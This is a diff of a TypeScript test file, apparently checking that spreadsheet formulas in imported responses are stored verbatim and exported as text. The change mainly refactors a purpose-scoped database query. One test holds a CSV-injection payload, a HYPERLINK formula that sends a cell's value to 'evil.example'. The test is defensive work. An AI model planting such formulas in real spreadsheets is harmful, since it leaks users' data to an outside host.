@@ -1,6 +1,7 @@
 // A file made to break the import, or whoever opens what comes out of it.
 import { expect, test } from 'vitest';
 import { forPurpose, inWorkspace } from '../../src/db/scope.ts';
+import { informing } from '../../src/domain/insights/reading-purposes.ts';
 import { importResponses } from '../../src/domain/exchange/import-responses.ts';
 import { mappingInput } from '../../src/domain/exchange/mapping.ts';
 import { spreadsheetCell } from '../../src/domain/exchange/spreadsheet-cell.ts';
@@ -63,9 +64,7 @@ test('a formula from a file is kept as it was written, and leaves as text', asyn
 	const formula = '=HYPERLINK("http://evil.example?"&A1,"Open")';
 	await take(`id,day,when,better\nf1,2021-01-11,sat,"${formula.replaceAll('"', '""')}"`);
 	const rows = await inWorkspace(database.db, by.workspaceId, (tx) =>
-		forPurpose(tx, { reader: by.accountId, purpose: 'inform' }, () =>
-			tx.selectFrom('answer').select('value').execute()
-		)
+		forPurpose(tx, informing(by, 1), () => tx.selectFrom('answer').select('value').execute())
 	);
 	const [stored] = rows.map((row) => String(row.value)).filter((text) => text.includes('HYPERLINK'));
 	expect(stored).toBe(formula);
